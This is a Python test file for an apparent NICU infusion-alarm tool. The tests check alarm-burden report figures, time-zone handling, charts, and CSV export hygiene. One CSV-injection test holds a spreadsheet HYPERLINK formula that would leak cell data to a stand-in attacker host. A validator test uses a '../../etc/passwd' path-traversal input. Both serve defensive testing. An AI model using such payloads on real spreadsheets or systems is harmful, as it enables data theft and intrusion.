"""The alarm-burden report on a replayed shift: the day shift of examples/ with a charge
nurse's acknowledgements, an override and resets added, worked out by hand."""

from __future__ import annotations

import csv
import io
import json
import struct
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from calguard.alerts.log import AlertLog, normalise_db_url
from calguard.alerts.report import (
    MAX_CHART_DAYS,
    Report,
    build_report,
    chart,
    csv_cell,
    load_report,
    write_csv,
    write_png,
    zone,
)
from calguard.config import load_library
from calguard.monitor.timeutil import parse_ts
from hypothesis import given
from hypothesis import strategies as st

from calguard.replay import replay

ROOT = Path(__file__).parent.parent
SHIFT = ROOT / "examples" / "nicu-shift.jsonl"
DAY = "2026-11-21T"
# the shift's alarms (see tests/test_shift_replay.py): a-000001 rate-weight and a-000002
# salt-not-gluconate (high, 07:40), a-000003 concentration-peripheral (medium, 07:40),
# a-000005 incompatible-coinfusion (high, 09:01), a-000008 occlusion (medium, 10:45) ...
ACTIONS = [
    ("07:41:00", {"type": "ack", "alert": "a-000001", "by": "rn1"}),  # 60 s
    (
        "07:42:00",
        {"type": "override", "alert": "a-000003", "by": "dr1", "reason": "prescriber-approved"},
    ),
    ("07:43:00", {"type": "ack", "alert": "a-000002", "by": "rn1"}),  # 180 s
    ("08:20:00", {"type": "reset", "alert": "a-000001", "by": "rn1"}),
    ("08:20:00", {"type": "reset", "alert": "a-000002", "by": "rn1"}),
    ("09:02:00", {"type": "ack", "alert": "a-000005", "by": "charge1"}),  # 60 s
    ("10:46:00", {"type": "pause", "alert": "a-000008", "by": "rn2"}),
]


def shift_with_actions() -> bytes:
    events = [json.loads(line) for line in SHIFT.read_text().splitlines() if line.strip()]
    events += [{"t": f"{DAY}{clock}Z", **action} for clock, action in ACTIONS]
    events.sort(key=lambda e: e["t"])  # stable: an action after the events of its instant
    return "".join(json.dumps(e) + "\n" for e in events).encode()


async def replay_into(url: str) -> list[dict[str, object]]:
    out = io.StringIO()
    async with AlertLog(url) as log:
        summary = await replay(
            io.BytesIO(shift_with_actions()),
            source="shift",
            library=load_library(),
            out=out,
            log=log,
        )
    assert summary.counts["rejected"] == 0
    return [json.loads(line) for line in out.getvalue().splitlines()]


async def test_the_report_of_a_replayed_shift(db_url: str) -> None:
    lines = await replay_into(db_url)
    report = await load_report(normalise_db_url(db_url), None)
    raised = [a for a in lines if a["state"] == "raised"]
    assert len(report.alarms) == len(raised) == 12
    assert report.bed_days == 3  # B1, B2, B3 on 21 November
    assert report.per_bed_day == 4.0
    assert report.acknowledged_share == 3 / 12
    assert report.median_seconds_to_acknowledge == 60.0  # of 60, 180 and 60 s
    assert report.override_reasons == {"prescriber-approved": 1}
    assert report.escalated_share == 6 / 12  # the unacknowledged ones that lasted long enough
    by_id = {a.alert: a for a in report.alarms}
    assert by_id["a-000001"].reset_by == "rn1" and by_id["a-000001"].latched
    assert by_id["a-000003"].overridden_by == "dr1" and by_id["a-000003"].escalated_to is None
    assert by_id["a-000011"].category == "technical"
    assert report.by_rule[("rate-weight", "high")] == 2
    assert report.by_rule[("site-check-overdue", "medium")] == 2
    text = report.text()
    assert "12 over 3 bed-days: 4.0 per bed-day" in text
    assert "acknowledged 25%; median time to acknowledge 60 s" in text
    assert "override reasons: prescriber-approved 1" in text


async def test_since_limits_the_report_to_later_alarms(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    await replay_into(url)
    report = await load_report(normalise_db_url(url), parse_ts(f"{DAY}12:00:00Z"))
    assert [a.rule for a in report.alarms] == [
        "ceftriaxone-neonate",
        "telemetry-stale",
        "site-check-overdue",
    ]


def test_calguard_report_writes_the_table_csv_and_chart(tmp_path: Path) -> None:
    import asyncio

    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    asyncio.run(replay_into(url))
    result = subprocess.run(
        [
            sys.executable, "-m", "calguard.cli", "report", "--db", url, "--tz", "Europe/Berlin",
            "--csv", str(tmp_path / "alarms.csv"), "--png", str(tmp_path / "alarms.png"),
        ],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "per bed-day" in result.stdout and "rate-weight" in result.stdout
    assert "days in Europe/Berlin" in result.stdout
    with (tmp_path / "alarms.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 12
    first = rows[0]
    assert (first["alert"], first["acknowledged_by"], first["seconds_to_acknowledge"]) == (
        "a-000001",
        "rn1",
        "60.0",
    )
    assert (first["raised"], first["raised_local"]) == (
        "2026-11-21T07:40:00Z",
        "2026-11-21T08:40:00+01:00",  # the times stay UTC; the local column is extra
    )
    png = (tmp_path / "alarms.png").read_bytes()
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5_000


# --- time zones, the chart per day, CSV hygiene -----------------------------------------


def raised(alert: str, t: str, priority: str = "high", bed: str = "B1") -> dict[str, Any]:
    return {"t": t, "state": "raised", "alert": alert, "rule": "rate-weight",
            "priority": priority, "bed": bed}  # fmt: skip


def weeks_of_alarms(days: int) -> Report:
    """Three alarms a day on B1 (high 02:10, medium 02:40, low 13:00 UTC) for ``days`` days
    from 1 November 2026, counted in Berlin (UTC+1 in November)."""
    lines = []
    for n in range(days):
        day = (date(2026, 11, 1) + timedelta(days=n)).isoformat()
        lines += [
            raised(f"a-{n}-1", f"{day}T02:10:00Z", "high"),
            raised(f"a-{n}-2", f"{day}T02:40:00Z", "medium"),
            raised(f"a-{n}-3", f"{day}T13:00:00Z", "low"),
        ]
    return build_report(lines, [], None, ZoneInfo("Europe/Berlin"))


@pytest.fixture(scope="module")
def fonts_loaded() -> None:
    """matplotlib keeps its font files open for the life of the process (a cache, not a
    leak): draw once before the tests that draw, so the leak check compares like with like."""
    chart(weeks_of_alarms(1)).savefig(io.BytesIO(), format="png")


def png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data.startswith(b"\x89PNG\r\n\x1a\n") and data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    return width, height


def test_an_alarm_at_half_past_eleven_utc_counts_on_the_next_day_in_berlin() -> None:
    lines = [raised("a-000001", "2026-11-21T23:30:00Z")]
    beds = [("B1", parse_ts("2026-11-21T23:15:00Z"))]  # its monitoring data, same quarter hour
    in_utc = build_report(lines, beds, None)
    in_berlin = build_report(lines, beds, None, zone("Europe/Berlin"))
    assert in_utc.bed_days_seen == {("B1", date(2026, 11, 21))}
    assert in_berlin.bed_days_seen == {("B1", date(2026, 11, 22))}  # 00:30 and 00:15 local
    assert in_berlin.days == [date(2026, 11, 22)]
    assert "days in Europe/Berlin" in in_berlin.text()
    ax = chart(in_berlin).axes[0]
    assert ax.get_title(loc="left").startswith("Sun 22 Nov 2026: 1 alarm (high 1,")
    heights = [bar.get_height() for bars in ax.containers for bar in bars]
    assert heights[0] == 1 and sum(heights) == 1  # in the bar of 00:00-01:00 local


async def test_bed_days_from_the_log_are_counted_in_the_site_zone(db_url: str) -> None:
    """The shift runs 07:00-15:00 UTC on 21 November: one day in London, but it crosses
    midnight on Kiritimati (UTC+14), so each of the three beds has two local days there."""
    await replay_into(db_url)
    url = normalise_db_url(db_url)
    london = await load_report(url, None, zone("Europe/London"))
    kiritimati = await load_report(url, None, zone("Pacific/Kiritimati"))
    assert london.bed_days == 3 and london.days == [date(2026, 11, 21)]
    assert kiritimati.bed_days == 6
    assert kiritimati.days == [date(2026, 11, 21), date(2026, 11, 22)]
    assert len(kiritimati.alarms) == len(london.alarms) == 12


@pytest.mark.usefixtures("fonts_loaded")
def test_the_chart_has_one_panel_per_day_for_the_last_two_weeks(tmp_path: Path) -> None:
    report = weeks_of_alarms(30)
    fig = chart(report)
    assert len(fig.axes) == MAX_CHART_DAYS == 14
    titles = [ax.get_title(loc="left") for ax in fig.axes]
    first_shown = date(2026, 11, 30) - timedelta(days=13)
    assert titles[0].startswith(f"{first_shown:%a %d %b %Y}: 3 alarms (high 1, medium 1, low 1)")
    assert titles[-1].startswith("Mon 30 Nov 2026: 3 alarms")
    suptitle = fig.get_suptitle()
    assert "17 Nov 2026 to 30 Nov 2026 (the last 14 of 30 days)" in suptitle
    assert "Europe/Berlin" in suptitle
    hours = [f"{h:02d}:00" for h in range(0, 24, 3)]
    for ax in fig.axes:  # hours of the local day on every panel, the same scale throughout
        assert [t.get_text() for t in ax.get_xticklabels()] == hours
        assert ax.get_xlim() == (-0.6, 23.6)
    legend = fig.legends[0]
    assert [t.get_text() for t in legend.get_texts()] == ["high", "medium", "low"]
    # 02:10 and 02:40 UTC are both 03:xx in Berlin: one stacked bar of two
    ax = fig.axes[0]
    stacked = [sum(bars[3].get_height() for bars in ax.containers)]
    assert stacked == [2]
    write_png(report, tmp_path / "month.png")
    width, height = png_size(tmp_path / "month.png")
    assert 800 <= width <= 1600 and 600 <= height <= 1600


@pytest.mark.usefixtures("fonts_loaded")
@pytest.mark.parametrize("days", [1, 3, 5, 400])
def test_the_chart_stays_a_sane_size_whatever_the_span(tmp_path: Path, days: int) -> None:
    report = weeks_of_alarms(days)
    assert len(chart(report).axes) == min(days, MAX_CHART_DAYS)
    write_png(report, tmp_path / "chart.png")
    width, height = png_size(tmp_path / "chart.png")
    assert 600 <= width <= 1600 and 300 <= height <= 1600


def test_a_day_when_the_clocks_go_back_says_so() -> None:
    lines = [raised("a-1", "2026-10-25T00:30:00Z"), raised("a-2", "2026-10-25T01:30:00Z")]
    fig = chart(build_report(lines, [], None, zone("Europe/Berlin")))
    (ax,) = fig.axes  # 02:30 CEST and 02:30 CET: the repeated hour shares one bar
    assert ax.get_title(loc="left").endswith("clocks went back (25 h)")


@pytest.mark.usefixtures("fonts_loaded")
def test_an_empty_log_draws_a_chart_that_says_so(tmp_path: Path) -> None:
    report = build_report([], [], None)
    write_png(report, tmp_path / "empty.png")
    assert png_size(tmp_path / "empty.png")[0] <= 1600
    assert "no monitoring data" in " ".join(t.get_text() for t in chart(report).texts)


def test_a_bad_time_zone_is_refused_with_a_suggestion() -> None:
    with pytest.raises(ValueError, match=r'"Europe/Londn" is not a time zone.*"Europe/London"'):
        zone("Europe/Londn")
    for bad in ("", "Europe", "../../etc/passwd", "Mars/Olympus_Mons"):
        with pytest.raises(ValueError, match="is not a time zone"):
            zone(bad)


def test_calguard_report_with_a_bad_time_zone_is_a_usage_error(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "calguard.cli", "report", "--tz", "Mars/Olympus_Mons",
         "--db", f"sqlite:///{tmp_path / 'log.sqlite3'}"],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 2
    assert '--tz: "Mars/Olympus_Mons" is not a time zone' in result.stderr
    assert not (tmp_path / "log.sqlite3").exists()  # refused before touching the log


def test_a_formula_for_a_user_id_reaches_the_csv_as_text(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    lines = [
        raised("a-000001", "2026-11-21T08:00:00Z"),
        {**raised("a-000001", "2026-11-21T08:01:00Z"), "state": "acknowledged", "by": evil},
        {**raised("a-000001", "2026-11-21T08:02:00Z"), "state": "overridden", "by": "@rn1",
         "reason": "-1+1"},
    ]  # fmt: skip
    write_csv(build_report(lines, [], None), tmp_path / "alarms.csv")
    with (tmp_path / "alarms.csv").open(newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["acknowledged_by"] == "'" + evil
    assert (row["overridden_by"], row["overridden_reason"]) == ("'@rn1", "'-1+1")
    assert row["seconds_to_acknowledge"] == "60.0" and row["bed"] == "B1"  # the rest as before


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=1"])
def test_every_formula_prefix_is_neutralised(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_numbers_and_plain_text_pass_unchanged() -> None:
    assert [csv_cell(v) for v in (-1, 2.5, True, None, "rn1", "a-000001", "")] == [
        -1, 2.5, True, None, "rn1", "a-000001", ""
    ]  # fmt: skip


@given(st.text())
def test_the_escape_is_safe_and_can_be_undone(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str) and not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    undone = cell[1:] if cell.startswith("'") else cell
    assert undone == text
